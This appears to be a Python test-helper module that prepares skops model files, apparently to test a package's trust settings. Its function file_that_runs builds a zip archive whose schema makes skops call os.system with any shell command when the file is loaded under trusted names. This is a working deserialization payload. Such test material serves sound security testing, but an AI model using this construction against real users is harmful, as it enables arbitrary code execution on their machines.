"""Prepared files of skops."""

import io
import json
import os
import sys
from zipfile import ZipFile


def node(name, loader, module="builtins", **content):
    """What skops writes of one object."""
    return {"__class__": name, "__module__": module, "__loader__": loader, **content}


def file_that_runs(command):
    """A file of skops that runs a command of the shell where all names within this package are trusted.

    It calls `os.system`, which it finds through a module of this package that imports `os`. skops calls the types of
    the keys of a mapping.
    """
    through = next(
        name
        for name, module in sorted(sys.modules.items())
        if name.startswith("sksemobridge.") and getattr(module, "os", None) is os
    )
    function = {"func": "system", "obj": node("os", "FunctionNode", through)}
    system = node("os", "MethodNode", through, content=function)
    mapping = {"content": {command: node("str", "JsonNode", content="1")}}
    mapping["key_types"] = node("list", "ListNode", content=[system])
    schema = node("dict", "DictNode", **mapping, protocol=2, _skops_version="0.16.0")
    file = io.BytesIO()
    with ZipFile(file, "w") as archive:
        archive.writestr("schema.json", json.dumps(schema))
    return file.getvalue()
